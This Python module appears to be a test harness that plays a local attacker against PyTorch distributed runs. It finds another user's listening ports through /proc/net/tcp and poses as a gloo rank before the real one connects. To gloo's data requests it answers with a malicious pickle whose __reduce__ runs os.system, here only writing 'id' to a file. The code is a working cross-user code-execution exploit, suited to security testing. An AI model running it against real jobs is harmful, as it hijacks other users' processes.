"""Another user of the machine, who reaches every port of a run and knows how torch's stores and gloo talk."""

import encodings.idna  # noqa: F401  # before the files of this Python are out of reach
import os
import pickle
import socket
import struct
import threading
import time
from pathlib import Path

NOBODY = 65534
_PREAMBLE = struct.Struct("=6Q")  # of gloo: bytes, what it is, slot, offset, length, offset there
_DATA, _SENDER_IS_READY, _RECEIVER_IS_READY = 1, 2, 3


class Payload:
    """Makes a file in whichever process unpickles it."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id > {self.file}",)


def ports_of(user: int) -> list[int]:
    """At which a user's processes listen: the system shows them to all users."""
    lines = Path("/proc/net/tcp").read_text().splitlines()[1:] + Path("/proc/net/tcp6").read_text().splitlines()[1:]
    rows = [line.split() for line in lines]
    return sorted({int(r[1].rpartition(":")[2], 16) for r in rows if r[3] == "0A" and int(r[7]) == user})


def take_places(user: int, not_these: list[int], seconds: float, payload: bytes) -> None:
    """Connects to each port as the rank that is to come, before that one does, and answers what gloo asks with
    ``payload``; prints how often it was asked."""
    os.setuid(NOBODY)
    asked: list[int] = []

    def talk(connection: socket.socket, port: int) -> None:
        stream = connection.makefile("rb")
        while len(head := stream.read(_PREAMBLE.size)) == _PREAMBLE.size:
            size, kind, slot, _, length, _ = _PREAMBLE.unpack(head)
            stream.read(size - _PREAMBLE.size)
            if kind == _SENDER_IS_READY:
                connection.sendall(_PREAMBLE.pack(_PREAMBLE.size, _RECEIVER_IS_READY, slot, 0, length, 0))
            if kind == _RECEIVER_IS_READY:
                asked.append(length)
                data = payload[:length].ljust(length, b"\1")
                connection.sendall(_PREAMBLE.pack(_PREAMBLE.size + length, _DATA, slot, 0, length, 0) + data)

    def sit(port: int, sequence: int) -> None:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=seconds) as connection:
                connection.sendall(struct.pack("=q", sequence))
                talk(connection, port)
        except OSError:
            pass

    print("here", flush=True)
    known, end = set(not_these), time.monotonic() + seconds
    while time.monotonic() < end:
        for port in set(ports_of(user)) - known:
            known.add(port)
            for sequence in range(4):
                threading.Thread(target=sit, args=(port, sequence), daemon=True).start()
    print("asked for", asked, flush=True)


def pickled(file: str) -> bytes:
    return pickle.dumps(Payload(file))
